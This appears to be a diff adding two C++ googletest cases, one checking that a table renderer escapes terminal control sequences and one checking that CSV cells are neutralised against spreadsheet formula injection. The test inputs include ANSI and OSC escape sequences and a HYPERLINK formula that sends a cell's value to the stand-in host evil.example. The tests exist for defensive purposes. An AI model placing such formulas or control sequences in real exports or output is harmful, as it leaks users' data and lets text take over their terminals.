@@ -7,6 +7,7 @@
 #include <fstream>
 #include <sstream>
 
+#include "absl/strings/match.h"
 #include "common/api/errors.h"
 #include "common/status.h"
 #include "gtest/gtest.h"
@@ -510,6 +511,60 @@ TEST(Table, CutsLongCellsAtACharacterAndFlattensLineBreaks) {
   Table plain({"", ""}, {false, true});
   plain.AddRow({"x", "1"});
   EXPECT_EQ(plain.Render("  "), "  x  1\n") << "no header line when the header is empty";
+}
+
+TEST(Table, ShowsControlCharactersAsEscapesSoStoredTextCannotDriveTheTerminal) {
+  Table t({"TITLE"});
+  t.AddRow({"red \x1b[31mtext\x1b[0m"});
+  t.AddRow({"title \x1b]0;owned\x07 bell"});
+  t.AddRow({"moc.\xe2\x80\xaelive \xc2\x9b" "2J \x7f"});
+  t.AddRow({"stray \xff byte\tand tab"});
+  const std::string shown = t.Render("", 80);
+  EXPECT_EQ(shown.find('\x1b'), std::string::npos) << shown;
+  EXPECT_EQ(shown.find('\x07'), std::string::npos) << shown;
+  EXPECT_TRUE(absl::StrContains(shown, "red \\x1B[31mtext\\x1B[0m\n")) << shown;
+  EXPECT_TRUE(absl::StrContains(shown, "title \\x1B]0;owned\\x07 bell\n")) << shown;
+  EXPECT_TRUE(absl::StrContains(shown, "moc.\\u202Elive \\u009B2J \\x7F\n")) << shown;
+  EXPECT_TRUE(absl::StrContains(shown, "stray \\xFF byte and tab\n")) << shown;
+}
+
+TEST(Csv, SpreadsheetSafeCellsCannotRunAsFormulasAndReadBackAsTheyWere) {
+  const std::vector<std::string> cells = {
+      "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+      "+1+1",
+      "-2+3",
+      "@SUM(A1)",
+      "\tindented",
+      "\rreturn",
+      "'=already",
+      "''+twice",
+      "'s-Hertogenbosch",
+      "-12.5",
+      "+7",
+      "2024-04-01",
+      "Kyiv",
+      "",
+      "-",
+  };
+  const std::vector<std::string> safe = SpreadsheetSafe(cells);
+  EXPECT_EQ(safe, (std::vector<std::string>{
+                      "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+                      "'+1+1",
+                      "'-2+3",
+                      "'@SUM(A1)",
+                      "'\tindented",
+                      "'\rreturn",
+                      "''=already",
+                      "'''+twice",
+                      "'s-Hertogenbosch",
+                      "-12.5",
+                      "+7",
+                      "2024-04-01",
+                      "Kyiv",
+                      "",
+                      "'-",
+                  }));
+  EXPECT_EQ(SpreadsheetPlain(safe), cells);
 }
 
 std::string Captured(std::FILE* f) {
